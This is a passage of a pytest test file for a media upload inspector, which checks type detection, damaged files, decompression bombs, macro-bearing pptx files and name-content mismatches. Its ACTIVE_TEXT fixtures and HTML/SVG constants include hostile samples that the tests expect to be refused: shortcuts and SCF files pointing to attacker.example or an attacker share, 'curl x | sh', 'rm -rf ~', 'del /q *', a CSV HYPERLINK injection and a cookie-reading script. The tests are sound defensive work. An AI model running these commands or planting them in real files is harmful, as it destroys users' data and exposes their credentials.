"""Upload inspection: the bytes decide the type, the name must agree, and liars are refused.

Every file is made inside its test; none needs a database or Redis. The ffprobe tests run only
where ffmpeg and ffprobe are installed.
"""

from __future__ import annotations

import errno
import io
import json
import logging
import shutil
import signal
import stat
import struct
import subprocess
import sys
import wave
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfWriter

from ocp.media import audiovisual, documents, images
from ocp.media import inspect as media_inspect
from ocp.media.inspect import PPTX, Inspection, inspect_file
from ocp.media.verdict import MachineFault

ROOT = Path(__file__).resolve().parents[2]
HAS_FFMPEG = shutil.which("ffmpeg") is not None and shutil.which("ffprobe") is not None
needs_ffmpeg = pytest.mark.skipif(not HAS_FFMPEG, reason="ffmpeg and ffprobe are not installed")


def run(tmp_path: Path, filename: str, data: bytes, **options: Any) -> Inspection:
    """Inspect ``data`` uploaded as ``filename``; the thumbnail goes to tmp_path/thumb.jpg."""
    upload = tmp_path / "upload.bin"
    upload.write_bytes(data)
    return inspect_file(upload, filename, thumbnail_path=tmp_path / "thumb.jpg", **options)


def rejected(tmp_path: Path, filename: str, data: bytes, **options: Any) -> Inspection:
    result = run(tmp_path, filename, data, **options)
    assert result.status == "rejected", result
    assert result.reason
    assert not result.thumbnail
    return result


def thumbnail(tmp_path: Path) -> Image.Image:
    with Image.open(tmp_path / "thumb.jpg") as image:
        assert image.format == "JPEG"
        assert image.width <= 320
        assert image.height <= 320
        image.load()
        return image


def rgb_at(image: Image.Image, x: int, y: int) -> tuple[int, ...]:
    pixel = image.convert("RGB").getpixel((x, y))
    assert isinstance(pixel, tuple)
    return pixel


# Builders ------------------------------------------------------------------------------------


def image_bytes(
    fmt: str, size: tuple[int, int] = (400, 200), mode: str = "RGB", **save: Any
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "red").save(out, fmt, **save)
    return out.getvalue()


def noisy_jpeg(size: tuple[int, int] = (200, 200)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 64).convert("RGB").save(out, "JPEG", quality=95)
    return out.getvalue()


def pdf_bytes(pages: int = 3, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if password is not None:
        writer.encrypt(password, "owner-secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def mvhd(timescale: int, duration: int, version: int = 0) -> bytes:
    if version == 1:
        times = struct.pack(">QQIQ", 0, 0, timescale, duration)
    else:
        times = struct.pack(">IIII", 0, 0, timescale, duration)
    return box(b"mvhd", bytes([version, 0, 0, 0]) + times + bytes(80))


def trak(handler: bytes, width: int = 0, height: int = 0) -> bytes:
    tkhd = bytes(4) + bytes(20) + bytes(8) + bytes(8) + bytes(36)
    tkhd += struct.pack(">II", width << 16, height << 16)
    hdlr = bytes(8) + handler + bytes(12) + b"\x00"
    return box(b"trak", box(b"tkhd", tkhd) + box(b"mdia", box(b"hdlr", hdlr)))


def mp4_bytes(brand: bytes = b"isom", *, moov: bytes | None = None) -> bytes:
    if moov is None:
        moov = mvhd(1000, 2500) + trak(b"vide", 640, 360) + trak(b"soun")
    ftyp = box(b"ftyp", brand + struct.pack(">I", 512) + b"isommp41")
    return ftyp + box(b"moov", moov) + box(b"mdat", bytes(64))


def ebml_bytes(doc_type: bytes) -> bytes:
    def element(element_id: bytes, payload: bytes) -> bytes:
        return element_id + bytes([0x80 | len(payload)]) + payload

    header = element(b"\x42\x86", b"\x01") + element(b"\x42\x82", doc_type)
    header += element(b"\x42\x87", b"\x04") + element(b"\x42\x85", b"\x02")
    segment = b"\x18\x53\x80\x67" + b"\x01\xff\xff\xff\xff\xff\xff\xff"
    return element(b"\x1a\x45\xdf\xa3", header) + segment


def wav_bytes(frames: int = 4000, rate: int = 8000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(rate)
        writer.writeframes(bytes(2 * frames))
    return out.getvalue()


def flac_bytes(samples: int = 88200, rate: int = 44100) -> bytes:
    packed = rate << 44 | (2 - 1) << 41 | (16 - 1) << 36 | samples
    streaminfo = struct.pack(">HH", 4096, 4096) + bytes(6) + packed.to_bytes(8, "big") + bytes(16)
    return b"fLaC" + bytes([0x80, 0, 0, len(streaminfo)]) + streaminfo + bytes(32)


MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(417 - 4)  # MPEG-1 layer III, 128 kbit/s, 44.1 kHz


def mp3_bytes(frames: int = 3) -> bytes:
    tag = b"TIT2" + struct.pack(">I", 6) + b"\x00\x00" + b"\x03Song\x00" + bytes(20)
    size = len(tag)
    syncsafe = bytes([size >> 21 & 0x7F, size >> 14 & 0x7F, size >> 7 & 0x7F, size & 0x7F])
    return b"ID3\x04\x00\x00" + syncsafe + tag + MP3_FRAME * frames


def ogg_bytes() -> bytes:
    page = b"OggS\x00\x02" + bytes(8) + struct.pack("<III", 1, 0, 0) + b"\x01\x1e"
    return page + b"\x01vorbis" + bytes(23)


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES_XML = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/ppt/presentation.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
)


def pptx_members(**extra: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES_XML,
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation/>',
        "ppt/slides/slide1.xml": b'<?xml version="1.0"?><p:sld/>',
        "ppt/slides/slide2.xml": b'<?xml version="1.0"?><p:sld/>',
        "ppt/slides/_rels/slide1.xml.rels": b'<?xml version="1.0"?><Relationships/>',
        **extra,
    }


def png_claiming(width: int, height: int) -> bytes:
    """A 1x1 PNG whose header claims another size (CRC fixed, so only the size lies)."""
    data = bytearray(image_bytes("PNG", (1, 1)))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


# The result --------------------------------------------------------------------------------


def test_inspection_round_trips_through_a_dict_and_ignores_unknown_keys() -> None:
    inspection = Inspection(status="ready", content_type="image/png", kind="image", width=3)
    data = inspection.as_dict()
    assert json.loads(json.dumps(data)) == data
    assert Inspection.from_dict({**data, "new_field": 1}) == inspection


# Images ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "filename", "content_type"),
    [
        ("PNG", "photo.png", "image/png"),
        ("JPEG", "photo.JPG", "image/jpeg"),
        ("GIF", "photo.gif", "image/gif"),
        ("WEBP", "photo.webp", "image/webp"),
        ("JPEG", "photo.jfif", "image/jpeg"),
    ],
)
def test_images_are_measured_and_get_a_jpeg_thumbnail(
    tmp_path: Path, fmt: str, filename: str, content_type: str
) -> None:
    result = run(tmp_path, filename, image_bytes(fmt, (400, 200)))
    assert result == Inspection(
        status="ready",
        content_type=content_type,
        kind="image",
        width=400,
        height=200,
        thumbnail=True,
    )
    assert thumbnail(tmp_path).size == (320, 160)


def test_small_images_are_not_enlarged(tmp_path: Path) -> None:
    run(tmp_path, "icon.png", image_bytes("PNG", (16, 8)))
    assert thumbnail(tmp_path).size == (16, 8)


def test_transparency_is_flattened_onto_white(tmp_path: Path) -> None:
    image = Image.new("RGBA", (100, 100), (0, 0, 0, 0))
    image.paste((255, 0, 0, 255), (40, 40, 60, 60))
    out = io.BytesIO()
    image.save(out, "PNG")
    assert run(tmp_path, "logo.png", out.getvalue()).status == "ready"
    thumb = thumbnail(tmp_path)
    assert min(rgb_at(thumb, 2, 2)) > 240
    red, green, blue = rgb_at(thumb, 50, 50)
    assert red > 200 and green < 60 and blue < 60


def test_animated_gif_thumbnail_is_its_first_frame(tmp_path: Path) -> None:
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "blue", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    result = run(tmp_path, "anim.gif", out.getvalue())
    assert (result.status, result.width, result.height) == ("ready", 60, 40)
    red, green, blue = rgb_at(thumbnail(tmp_path), 30, 20)
    assert red > 200 and green < 60 and blue < 60


def test_exif_orientation_is_applied_to_size_and_thumbnail(tmp_path: Path) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # stored sideways: displayed rotated by 90 degrees
    result = run(tmp_path, "phone.jpg", image_bytes("JPEG", (100, 50), exif=exif))
    assert (result.width, result.height) == (50, 100)
    assert thumbnail(tmp_path).size == (50, 100)


def test_png_magic_followed_by_garbage_is_rejected(tmp_path: Path) -> None:
    data = b"\x89PNG\r\n\x1a\n" + b"this is not a PNG at all " * 20
    result = rejected(tmp_path, "photo.png", data)
    assert result.content_type == "image/png"
    assert result.reason == "The file looks like a PNG image but is damaged or incomplete."
    assert not (tmp_path / "thumb.jpg").exists()


def test_truncated_jpeg_is_rejected(tmp_path: Path) -> None:
    data = noisy_jpeg()
    result = rejected(tmp_path, "photo.jpg", data[: len(data) // 2])
    assert result.content_type == "image/jpeg"
    assert "damaged or incomplete" in (result.reason or "")


def test_decompression_bomb_is_refused_from_its_header(tmp_path: Path) -> None:
    result = rejected(tmp_path, "bomb.png", png_claiming(100_000, 100_000))
    assert "too many pixels" in (result.reason or "")
    assert "50 megapixels" in (result.reason or "")


def test_pixel_limit_is_a_module_constant(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "MAX_IMAGE_PIXELS", 1000)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", Image.MAX_IMAGE_PIXELS)
    result = rejected(tmp_path, "photo.png", image_bytes("PNG", (40, 40)))
    assert result.content_type == "image/png"
    assert "0.001 megapixels" in (result.reason or "")


def test_other_image_formats_are_not_accepted(tmp_path: Path) -> None:
    for fmt, detected in (("BMP", "a BMP image"), ("TIFF", "a TIFF image")):
        result = rejected(tmp_path, "picture", image_bytes(fmt, (10, 10)))
        assert f"(detected: {detected})" in (result.reason or "")
        assert result.content_type is None


# PDF ---------------------------------------------------------------------------------------


def test_pdf_page_count(tmp_path: Path) -> None:
    result = run(tmp_path, "notes.pdf", pdf_bytes(3))
    assert result == Inspection(status="ready", content_type="application/pdf", kind="pdf", pages=3)


def test_pdf_with_an_empty_user_password_opens(tmp_path: Path) -> None:
    assert run(tmp_path, "notes.pdf", pdf_bytes(2, password="")).pages == 2


def test_password_protected_pdf_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "notes.pdf", pdf_bytes(1, password="secret"))
    assert result.reason == "Password-protected PDFs are not accepted."
    assert result.content_type == "application/pdf"


def test_pdf_header_followed_by_junk_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "notes.pdf", b"%PDF-1.7\n" + b"junk " * 200)
    assert result.reason == "The file looks like a PDF document but is damaged or incomplete."


def test_pdf_magic_must_be_at_the_start(tmp_path: Path) -> None:
    result = rejected(tmp_path, "notes.pdf", b"\x00" * 16 + pdf_bytes(1))
    assert result.content_type is None


# Audio and video, natively -----------------------------------------------------------------


def test_mp4_duration_and_size_from_its_boxes(tmp_path: Path) -> None:
    result = run(tmp_path, "lecture.mp4", mp4_bytes())
    assert result == Inspection(
        status="ready",
        content_type="video/mp4",
        kind="video",
        width=640,
        height=360,
        duration_seconds=2.5,
        duration_status="known",
    )


def test_mp4_movie_header_version_1(tmp_path: Path) -> None:
    result = run(tmp_path, "lecture.m4v", mp4_bytes(moov=mvhd(90_000, 450_000, version=1)))
    assert (result.content_type, result.duration_seconds) == ("video/mp4", 5.0)


def test_quicktime_brand_and_mov_extension(tmp_path: Path) -> None:
    result = run(tmp_path, "clip.mov", mp4_bytes(b"qt  "))
    assert (result.status, result.content_type, result.kind) == (
        "ready",
        "video/quicktime",
        "video",
    )
    assert run(tmp_path, "clip.mov", mp4_bytes()).content_type == "video/mp4"


def test_m4a_is_audio(tmp_path: Path) -> None:
    result = run(tmp_path, "song.m4a", mp4_bytes(b"M4A ", moov=mvhd(44100, 88200) + trak(b"soun")))
    assert (result.content_type, result.kind) == ("audio/mp4", "audio")
    assert (result.duration_seconds, result.width) == (2.0, None)


def test_mp4_with_only_sound_tracks_is_audio(tmp_path: Path) -> None:
    result = run(tmp_path, "song.mp4", mp4_bytes(moov=mvhd(1000, 1000) + trak(b"soun")))
    assert (result.content_type, result.kind) == ("audio/mp4", "audio")


def test_mp4_without_a_duration_is_unknown(tmp_path: Path) -> None:
    result = run(tmp_path, "live.mp4", mp4_bytes(moov=mvhd(1000, 0)))
    assert (result.status, result.duration_seconds, result.duration_status) == (
        "ready",
        None,
        "unknown",
    )


@pytest.mark.parametrize(
    "data",
    [
        mp4_bytes()[:-10],  # mdat cut short
        mp4_bytes() + b"trailing",  # boxes do not tile the file
        box(b"ftyp", b"isom\x00\x00\x02\x00") + box(b"mdat", bytes(10)),  # no moov
        mp4_bytes(moov=box(b"mvhd", b"\x00\x00")),  # movie header too short
        box(b"ftyp", b"isom\x00\x00\x02\x00") + struct.pack(">I4s", 4, b"moov"),  # size < header
    ],
)
def test_broken_mp4_structure_is_rejected(tmp_path: Path, data: bytes) -> None:
    result = rejected(tmp_path, "lecture.mp4", data)
    assert result.reason == "The file looks like an MP4 video but is damaged or incomplete."


def test_mp4_with_64_bit_box_sizes(tmp_path: Path) -> None:
    mdat = struct.pack(">I4sQ", 1, b"mdat", 16 + 32) + bytes(32)
    data = mp4_bytes()[: -len(box(b"mdat", bytes(64)))] + mdat
    assert run(tmp_path, "lecture.mp4", data).duration_seconds == 2.5


def test_heic_is_not_accepted(tmp_path: Path) -> None:
    data = box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + box(b"meta", bytes(16))
    result = rejected(tmp_path, "IMG_0001", data)
    assert "(detected: a HEIC or AVIF image)" in (result.reason or "")
    assert rejected(tmp_path, "IMG_0001.HEIC", data).reason == not_accepted_name("heic")


def test_wav_duration(tmp_path: Path) -> None:
    result = run(tmp_path, "voice.wav", wav_bytes(frames=4000, rate=8000))
    assert (result.content_type, result.kind) == ("audio/wav", "audio")
    assert (result.duration_seconds, result.duration_status) == (0.5, "known")


def test_wav_without_a_data_chunk_is_rejected(tmp_path: Path) -> None:
    data = wav_bytes()
    header = data[:12]
    fmt_chunk = data[12 : 12 + 8 + 16]
    rejected(tmp_path, "voice.wav", header + fmt_chunk)


def test_flac_duration_from_streaminfo(tmp_path: Path) -> None:
    result = run(tmp_path, "track.flac", flac_bytes(samples=88200, rate=44100))
    assert (result.content_type, result.duration_seconds) == ("audio/flac", 2.0)


def test_mp3_with_an_id3_tag(tmp_path: Path) -> None:
    result = run(tmp_path, "podcast.mp3", mp3_bytes())
    assert (result.status, result.content_type, result.kind) == ("ready", "audio/mpeg", "audio")
    assert (result.duration_seconds, result.duration_status) == (None, "unknown")


def test_mp3_without_a_tag(tmp_path: Path) -> None:
    assert run(tmp_path, "podcast", MP3_FRAME * 3).content_type == "audio/mpeg"


def test_a_lone_frame_sync_is_not_mp3(tmp_path: Path) -> None:
    assert rejected(tmp_path, "x", b"\xff\xfb\x90\x64" + bytes(2000)).content_type is None


@pytest.mark.parametrize(
    ("filename", "data", "content_type"),
    [
        ("podcast.mp3", mp3_bytes(), "audio/mpeg"),
        ("talk.ogg", ogg_bytes(), "audio/ogg"),
        ("talk.webm", ebml_bytes(b"webm"), "video/webm"),
        ("talk.mkv", ebml_bytes(b"matroska"), "video/x-matroska"),
    ],
)
def test_without_ffprobe_some_durations_are_unknown(
    tmp_path: Path, filename: str, data: bytes, content_type: str
) -> None:
    result = run(tmp_path, filename, data)
    assert (result.status, result.content_type) == ("ready", content_type)
    assert (result.duration_seconds, result.duration_status) == (None, "unknown")


def test_webm_and_mkv_are_one_family(tmp_path: Path) -> None:
    assert run(tmp_path, "talk.mkv", ebml_bytes(b"webm")).content_type == "video/webm"


def test_matroska_without_a_segment_is_rejected(tmp_path: Path) -> None:
    data = ebml_bytes(b"webm")[:-12]
    assert rejected(tmp_path, "talk.webm", data).content_type == "video/webm"


def test_duration_status_is_only_for_audio_and_video(tmp_path: Path) -> None:
    assert run(tmp_path, "a.png", image_bytes("PNG")).duration_status is None
    assert run(tmp_path, "a.txt", b"text").duration_status is None


# Audio and video, with ffprobe -------------------------------------------------------------


def ffmpeg(tmp_path: Path, name: str, *args: str) -> Path:
    output = tmp_path / name
    command = ["ffmpeg", "-v", "error", "-nostdin", "-y", *args, str(output)]
    subprocess.run(command, check=True, capture_output=True, timeout=60)
    return output


TEST_VIDEO = ("-f", "lavfi", "-i", "testsrc=duration=1:size=64x48:rate=10", "-pix_fmt", "yuv420p")
TEST_SOUND = ("-f", "lavfi", "-i", "sine=duration=1")


@needs_ffmpeg
@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("video.mp4", "video/mp4"),
        ("video.mov", "video/quicktime"),
        ("video.webm", "video/webm"),
        ("video.mkv", "video/x-matroska"),
    ],
)
def test_ffprobe_video(tmp_path: Path, name: str, content_type: str) -> None:
    path = ffmpeg(tmp_path, name, *TEST_VIDEO)
    result = inspect_file(
        path, name, thumbnail_path=tmp_path / "thumb.jpg", ffprobe=shutil.which("ffprobe")
    )
    assert (result.status, result.content_type, result.kind) == ("ready", content_type, "video")
    assert (result.width, result.height) == (64, 48)
    assert result.duration_status == "known"
    assert result.duration_seconds == pytest.approx(1.0, abs=0.1)


@needs_ffmpeg
@pytest.mark.parametrize(
    ("name", "codec", "content_type"),
    [
        ("sound.mp3", "libmp3lame", "audio/mpeg"),
        ("sound.ogg", "libvorbis", "audio/ogg"),
        ("sound.m4a", "aac", "audio/mp4"),
        ("sound.wav", "pcm_s16le", "audio/wav"),
        ("sound.flac", "flac", "audio/flac"),
    ],
)
def test_ffprobe_audio(tmp_path: Path, name: str, codec: str, content_type: str) -> None:
    path = ffmpeg(tmp_path, name, *TEST_SOUND, "-c:a", codec)
    result = inspect_file(
        path, name, thumbnail_path=tmp_path / "thumb.jpg", ffprobe=shutil.which("ffprobe")
    )
    assert (result.status, result.content_type, result.kind) == ("ready", content_type, "audio")
    assert (result.width, result.height, result.duration_status) == (None, None, "known")
    assert result.duration_seconds == pytest.approx(1.0, abs=0.1)


@needs_ffmpeg
def test_without_ffprobe_generated_ogg_webm_mp3_have_unknown_durations(tmp_path: Path) -> None:
    files = [
        ffmpeg(tmp_path, "sound.ogg", *TEST_SOUND, "-c:a", "libvorbis"),
        ffmpeg(tmp_path, "sound.mp3", *TEST_SOUND, "-c:a", "libmp3lame"),
        ffmpeg(tmp_path, "video.webm", *TEST_VIDEO),
    ]
    for path in files:
        result = inspect_file(path, path.name, thumbnail_path=tmp_path / "thumb.jpg")
        assert (result.status, result.duration_status) == ("ready", "unknown"), path.name


@needs_ffmpeg
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("talk.webm", ebml_bytes(b"webm")),  # a header and an empty segment
        ("lecture.mp4", mp4_bytes(moov=mvhd(1000, 1000))),  # tidy boxes, no streams
    ],
)
def test_ffprobe_refuses_what_does_not_play(tmp_path: Path, name: str, data: bytes) -> None:
    result = rejected(tmp_path, name, data, ffprobe=shutil.which("ffprobe"))
    assert "not a playable audio/video file" in (result.reason or "")
    assert result.content_type is not None


# Text --------------------------------------------------------------------------------------


def test_plain_text_and_markdown(tmp_path: Path) -> None:
    text = run(tmp_path, "notes.txt", b"Hello\tworld\r\n\x0cpage two\n")
    assert text == Inspection(status="ready", content_type="text/plain", kind="text")
    markdown = run(tmp_path, "README.md", "# Titre\n\nDéjà vu.\n".encode())
    assert (markdown.content_type, markdown.kind) == ("text/markdown", "text")
    assert run(tmp_path, "notes.txt", b"\xef\xbb\xbfwith a BOM").content_type == "text/plain"
    assert run(tmp_path, "notes.markdown", b"*a*").content_type == "text/markdown"


def test_long_text_is_decoded_across_chunk_boundaries(tmp_path: Path) -> None:
    data = ("€" * 100_000).encode()  # three bytes each: chunks split characters
    assert run(tmp_path, "euros.txt", data).content_type == "text/plain"


def test_text_with_nul_bytes_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "notes.txt", b"hello\x00world")
    assert result.reason == "The file is named .txt but its contents are unknown binary data."


def test_text_with_many_control_characters_is_rejected(tmp_path: Path) -> None:
    rejected(tmp_path, "notes", b"\x01\x02\x03\x04 abc" * 10)


def test_text_that_is_not_utf8_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "notes.txt", "Crème brûlée, s'il vous plaît.".encode("latin-1"))
    assert result.reason == media_inspect.NOT_UTF8
    late = b"a" * 200_000 + b"\xff"
    assert rejected(tmp_path, "notes.txt", late).reason == media_inspect.NOT_UTF8


def test_utf16_text_is_rejected(tmp_path: Path) -> None:
    assert rejected(tmp_path, "notes.txt", "hi".encode("utf-16")).reason == media_inspect.UTF16


# Names that lie, and types we refuse -------------------------------------------------------

ACCEPTED = (
    "Accepted: images (PNG, JPEG, GIF, WebP), PDF, video (MP4, MOV, WebM, MKV), audio (MP3, "
    "M4A, WAV, OGG, FLAC), text (.txt) and Markdown (.md), zip archives of slides and "
    "PowerPoint (.pptx)."
)
NOT_ACCEPTED = "This kind of file is not accepted (detected: {}). " + ACCEPTED


def not_accepted_name(extension: str) -> str:
    return f"Files ending in .{extension} are not accepted. {ACCEPTED}"


HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(32)
ELF = b"\x7fELF\x02\x01\x01" + bytes(120)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100) + b"PE\x00\x00"


def test_empty_file_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "empty.png", b"")
    assert (result.reason, result.content_type) == ("The file is empty.", None)


def test_pdf_named_png(tmp_path: Path) -> None:
    result = rejected(tmp_path, "photo.png", pdf_bytes(1))
    assert result.reason == "The file is named .png but its contents are a PDF document."
    assert (result.content_type, result.kind) == ("application/pdf", "pdf")


def test_html_named_png(tmp_path: Path) -> None:
    result = rejected(tmp_path, "photo.png", HTML)
    assert result.reason == "The file is named .png but its contents are an HTML document."
    assert result.content_type is None


def test_html_without_a_known_extension(tmp_path: Path) -> None:
    result = rejected(tmp_path, "page", HTML)
    assert result.reason == NOT_ACCEPTED.format("an HTML document")


@pytest.mark.parametrize(
    ("data", "what"), [(ELF, "a Linux executable"), (PE, "a Windows executable")]
)
def test_executables_named_mp4(tmp_path: Path, data: bytes, what: str) -> None:
    result = rejected(tmp_path, "movie.mp4", data)
    assert result.reason == f"The file is named .mp4 but its contents are {what}."


def test_png_named_jpg_is_a_lie(tmp_path: Path) -> None:
    result = rejected(tmp_path, "photo.jpg", image_bytes("PNG"))
    assert result.reason == "The file is named .jpg but its contents are a PNG image."


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("drawing.svg", SVG),
        ("page.html", b"just words"),
        ("photo.HTM", image_bytes("PNG")),
        ("setup.exe", PE),
        ("setup.exe. ", PE),
        ("C:\\Users\\me\\app.js", b"alert(1)"),
    ],
)
def test_dangerous_extensions_are_refused_whatever_the_bytes(
    tmp_path: Path, filename: str, data: bytes
) -> None:
    result = rejected(tmp_path, filename, data)
    assert (result.reason or "").startswith("Files ending in .")


# Text that does something when opened, and names outside every allow-list.
SHORTCUT = b"[InternetShortcut]\r\nURL=file://attacker.example/share/payload\r\n"
ACTIVE_TEXT = {
    "evil.url": SHORTCUT,
    "EVIL.URL": SHORTCUT,
    "evil.url.": SHORTCUT,
    "photo.png.url": SHORTCUT,
    "tweak.reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
    "query.iqy": b"WEB\r\n1\r\nhttps://attacker.example/\r\n",
    "share.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker\\share\\icon.ico\r\n",
    "app.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n",
    "run.sh": b"#!/bin/sh\nrm -rf ~\n",
    "run.command": b"#!/bin/sh\nopen -a Calculator\n",
    "run.bat": b"@echo off\r\ndel /q *\r\n",
    "run.cmd": b"@echo off\r\n",
    "run.ps1": b"Remove-Item -Recurse ~\n",
    "run.vbs": b'CreateObject("WScript.Shell").Run "calc"\n',
    "run.js": b"WScript.Echo(1)\n",
    "run.hta": b"<hta:application/>",
    "run.py": b"import os\nos.system('calc')\n",
    "setup.inf": b"[Version]\r\nSignature=$Windows NT$\r\n",
    "open.settingcontent-ms": b"<PCSettings><DeepLink>calc</DeepLink></PCSettings>",
    "link.webloc": b"<plist><dict><key>URL</key><string>file:///</string></dict></plist>",
    "sheet.csv": b'=HYPERLINK("https://attacker.example","click"),b\n',
    "page.html": b"just words",
    "config.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\attacker\\share\\x.ico\r\n",
    "notes.text": b"plain words",
    "shortcut.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68),
    "photo.url": image_bytes("PNG"),
}


@pytest.mark.parametrize(("filename", "data"), ACTIVE_TEXT.items(), ids=list(ACTIVE_TEXT))
def test_names_outside_every_allow_list_are_refused_whatever_the_bytes(
    tmp_path: Path, filename: str, data: bytes
) -> None:
    extension = filename.rstrip(".").rsplit(".", 1)[1].lower()
    result = rejected(tmp_path, filename, data)
    assert result.reason == not_accepted_name(extension)
    assert result.content_type is None


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            b"plain words",
            "The file has no extension; plain text must end in .txt, .md or .markdown.",
        ),
        (image_bytes("PNG"), "The file has no extension; a PNG image must end in .png."),
        (pdf_bytes(1), "The file has no extension; a PDF document must end in .pdf."),
    ],
)
def test_a_file_without_an_extension_is_refused(tmp_path: Path, data: bytes, reason: str) -> None:
    assert rejected(tmp_path, "README", data).reason == reason


def test_svg_without_an_extension_is_not_accepted(tmp_path: Path) -> None:
    assert rejected(tmp_path, "drawing", SVG).reason == NOT_ACCEPTED.format("an SVG image")


def test_unknown_binary_data(tmp_path: Path) -> None:
    result = rejected(tmp_path, "blob", bytes(range(256)) * 4)
    assert result.reason == NOT_ACCEPTED.format("unknown binary data")


def test_windows_paths_in_the_filename(tmp_path: Path) -> None:
    result = run(tmp_path, "C:\\Users\\me\\Photo.PNG", image_bytes("PNG"))
    assert result.content_type == "image/png"


# Archives ----------------------------------------------------------------------------------


def test_zip_of_slides(tmp_path: Path) -> None:
    members = {
        "deck/": b"",
        "deck/01.png": image_bytes("PNG", (20, 10)),
        "deck/02.jpg": image_bytes("JPEG", (20, 10)),
        "deck/03.pdf": pdf_bytes(1),
        "deck/notes.md": b"# Notes\n",
        "__MACOSX/deck/._01.png": APPLE_DOUBLE,
        "deck/.DS_Store": b"\x00\x00\x00\x01Bud1" + bytes(64),
        "Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
    }
    result = run(tmp_path, "slides.zip", zip_bytes(members))
    assert result == Inspection(
        status="ready", content_type="application/zip", kind="archive", pages=4
    )


def test_pptx(tmp_path: Path) -> None:
    result = run(tmp_path, "talk.pptx", zip_bytes(pptx_members()))
    assert result == Inspection(status="ready", content_type=PPTX, kind="archive", pages=2)


def test_pptx_with_macros_is_rejected(tmp_path: Path) -> None:
    data = zip_bytes(pptx_members(**{"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    result = rejected(tmp_path, "talk.pptx", data)
    assert result.reason == "The presentation contains macros, which are not accepted."
    assert result.content_type == PPTX


def test_pptx_with_embedded_ole_objects_is_rejected(tmp_path: Path) -> None:
    data = zip_bytes(pptx_members(**{"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
    assert "oleObject1.bin" in (rejected(tmp_path, "talk.pptx", data).reason or "")


def test_macro_enabled_presentation_is_rejected(tmp_path: Path) -> None:
    macro_types = CONTENT_TYPES_XML.replace(
        b"vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )
    data = zip_bytes(pptx_members(**{"[Content_Types].xml": macro_types}))
    assert "not a plain PowerPoint" in (rejected(tmp_path, "talk.pptx", data).reason or "")


def test_pptx_with_printer_settings_is_accepted(tmp_path: Path) -> None:
    """PowerPoint on Windows writes its printer's settings as a binary part: decks keep it."""
    settings = {"ppt/printerSettings/printerSettings1.bin": b"\x00" * 64}
    result = run(tmp_path, "talk.pptx", zip_bytes(pptx_members(**settings)))
    assert result.status == "ready", result
    elsewhere = {"ppt/media/printerSettings1.bin": b"\x00" * 64}
    assert "printerSettings1.bin" in (
        rejected(tmp_path, "talk.pptx", zip_bytes(pptx_members(**elsewhere))).reason or ""
    )


def test_pptx_named_zip_and_zip_named_pptx(tmp_path: Path) -> None:
    result = rejected(tmp_path, "talk.zip", zip_bytes(pptx_members()))
    assert result.reason == "The file is named .zip but its contents are a PowerPoint presentation."
    result = rejected(tmp_path, "talk.pptx", zip_bytes({"a.png": image_bytes("PNG")}))
    assert result.reason == "The file is named .pptx but its contents are a zip archive."


def test_other_zip_based_formats_are_not_accepted(tmp_path: Path) -> None:
    docx = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
